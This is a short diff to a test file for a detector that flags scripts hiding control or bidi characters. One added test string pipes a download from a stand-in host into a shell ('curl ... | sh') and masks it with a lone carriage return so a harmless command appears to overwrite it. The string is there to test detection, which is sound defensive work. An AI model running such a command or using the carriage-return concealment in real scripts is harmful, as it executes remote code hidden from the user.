@@ -260,6 +260,8 @@ test("a pinned script hiding a control, format or bidi character is flagged; tab
   assert.equal(pinHidesCharacters({ file: "Makefile", text: "test:\n\tgo test\r\n" }), false);
   assert.equal(pinHidesCharacters({ file: "package.json", text: "node --test #\u202e" }), true);
   assert.equal(pinHidesCharacters({ file: "package.json", text: "a\u0007b" }), true);
+  assert.equal(pinHidesCharacters({ file: "package.json", text: "curl -s https://example.invalid/x | sh\rnpm run unit" }), true, "a lone CR draws the rest over the command");
+  assert.equal(pinHidesCharacters({ file: "Makefile", text: "test:\r\n\tgo test\r\n" }), false, "CRLF line ends are line breaks");
   assert.equal(pinHidesCharacters({ file: "Cargo.toml", sha256: "a".repeat(64) }), false);
 });
 
